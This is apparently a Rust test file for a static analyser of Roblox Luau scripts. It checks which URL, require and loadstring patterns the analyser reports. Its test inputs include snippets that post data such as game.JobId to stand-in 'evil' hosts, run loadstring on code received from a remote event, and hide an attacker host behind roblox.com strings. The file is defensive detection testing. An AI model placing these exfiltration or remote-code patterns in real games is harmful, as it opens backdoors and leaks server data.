//! Tests of following values: what is known, what is not, and which of it is reported.

use super::{check, names, said, scan_change};

/// Changes elsewhere that affect a flagged statement: writes to what it uses, aliases, early exits.
#[test]
fn changes_affecting_flagged_code_are_new() {
    let is_new = |before: &str, after: &str| {
        assert!(!scan_change(before, after).is_empty(), "{before} -> {after}");
        assert_eq!(scan_change(before, &format!("print(1)\n{before}")), [], "{before}");
    };
    let list = |write: &str| {
        format!("local c = {{ \"https://a.example/x\" }}\n{write}\nhttp:PostAsync(c[1], x)")
    };
    for write in ["c[1] = evil", "c[k] = evil", "table.insert(c, 1, evil)", "aim(c)"] {
        is_new(&list(""), &list(write));
    }
    let options = |write: &str| {
        let aliased = "local o = { Url = \"https://a.example/x\" }\nlocal p = o";
        format!("{aliased}\n{write}\nhttp:RequestAsync(o)")
    };
    is_new(&options(""), &options("p.Url = evil"));
    let module = "function M.send(u, d)\n\thttp:PostAsync(u, d)\nend\n";
    is_new(module, &format!("{module}local s = M.send\ns(evil, game.JobId)"));
    let aliased = format!("{module}local s = M.send\n");
    is_new(&aliased, &format!("{aliased}s(evil, game.JobId)"));
    let run = "local function run(c)\n\tloadstring(c)()\nend\n";
    is_new(run, &format!("{run}remote.OnClientEvent:Connect(run)"));
    let load = "local ls = loadstring\nls('a')()\n";
    is_new(load, &format!("{load}t[1] = ls\nt[1](x)()"));
    for guard in ["if x then return end", "assert(x)", "if x then error(y) end"] {
        let call = "loadstring(y)()";
        is_new(&format!("{guard}\n{call}"), call);
        is_new(&format!("{guard}\n{call}"), &format!("{}\n{call}", guard.replace('x', "z")));
    }
    is_new(
        "if x == 1 then return end loadstring(y)()",
        "if x ~= 1 then return end loadstring(y)()",
    );
}

/// A require of a possible instance of the place is not reported; one that may be a number is.
#[test]
fn requires_not_shown_to_be_modules_are_flagged() {
    for source in [
        "local S = game:GetService(\"ReplicatedStorage\") require(S.Packages.red)",
        "require(game.ReplicatedStorage:WaitForChild(\"A\"))",
        "for _, m in folder:GetDescendants() do if m:IsA(\"ModuleScript\") then require(m) end end",
        "local t = {} for _, m in folder:GetChildren() do t[m.Name] = require(m) end",
        "local t = {} for _, m in folder:GetChildren() do t[m.Name] = m end require(t[key])",
        "local t = { A = script.A } return function(key) return require(t[key]) end",
        "local M = {} M.Util = script.Util require(M.Util.A) return M",
        "local function load(m) return require(m) end load(script.A) load(script.B)",
        "function M.load(m) if typeof(m) == \"Instance\" then return require(m) end end",
        "function M.load(m) assert(m:IsA(\"ModuleScript\"), x) return require(m) end",
        "function M.load(m) if not m:IsA(\"ModuleScript\") then return end return require(m) end",
        "function M.load(m) if m.ClassName == x then pcall(function() require(m) end) end end",
        "local config = require(script.Config) require(config.Module)",
        "function C.new(m) self.m = script.M end function C:load() require(self.m) end",
        "require(`./{name}`)",
        "habitat:require(x)",
    ] {
        check(source, &[]);
    }
    for source in [
        "function M.load(m) return require(m) end",
        "function M.load(m) if typeof(m) == \"Instance\" then return end return require(m) end",
        "function M.load(m) if typeof(m) ~= \"Instance\" then return require(m) end end",
        "function M.load(m) if x or typeof(m) == \"Instance\" then return require(m) end end",
        "local function load(m) return require(m) end load(script.A) f(load)",
        "function C.new(m) self.m = m end function C:load() require(self.m) end",
        "require(f())",
        "require(Global)",
        "local t = {} fill(t) require(t[1])",
    ] {
        names(source, "requires what is not shown to be a module");
    }
}

/// A text is known only if it is folded exactly as in Luau and all its possible values are known.
#[test]
fn folded_strings_are_exact_or_unknown() {
    let sent = |source: &str| {
        let found = said(&format!("local host = \"roblox.com\"\n{source}"));
        found.into_iter().find(|it| it.contains("on the internet"))
    };
    for url in [
        "`https://{host}/x`",
        "string.format(\"https://%s/%d\", host, 5)",
        "(\"https://%s/\"):format(host)",
        "table.concat({ \"https:/\", host, \"x\" }, \"/\")",
        "string.gsub(\"https://HOST/x\", \"HOST\", host)",
        "(\"https://roblox.com/\" .. \"x\"):lower()",
    ] {
        assert_eq!(sent(&format!("http:PostAsync({url}, x)")), None, "{url}");
    }
    for url in [
        "`https://{if x then host else y}/x`",
        "string.format(\"https://%.0s/roblox.com\", host)",
        "string.format(\"https://%-9s/\", host)",
        "table.concat({ \"https://roblox.com/\", \"https://evil/\" }, \"\", 2)",
        "table.concat({ \"https://roblox.com\", f() })",
        "table.concat({ \"https://roblox.com\", [2] = \".evil/\" })",
        "string.gsub(\"https://evil/\", \"evil\", \"roblox.com\", 0)",
        "(\"https://evil.example/é/https://roblox.com/\"):sub(25)",
        "buffer.tostring(buffer.fromstring(\"https://roblox.com/\"))",
    ] {
        assert!(sent(&format!("http:PostAsync({url}, x)")).is_some(), "{url}");
    }
    for (write, is_known) in [
        ("", true),
        ("print(o.Url, #o) for k in pairs(o) do print(k) end", true),
        ("o.Url = \"https://roblox.com/y\"", true),
        ("local p = o", false),
        ("aim(o)", false),
        ("o[k] = v", false),
        ("rawset(o, \"Url\", v)", false),
        ("_, o.Url = f()", false),
        ("setmetatable(o, m)", false),
        ("t.o = o", false),
    ] {
        let options = "local o = { Url = \"https://roblox.com/x\" }";
        let found = sent(&format!("{options}\n{write}\nhttp:RequestAsync(o)"));
        assert_eq!(found.is_none(), is_known, "{write}: {found:?}");
    }
}
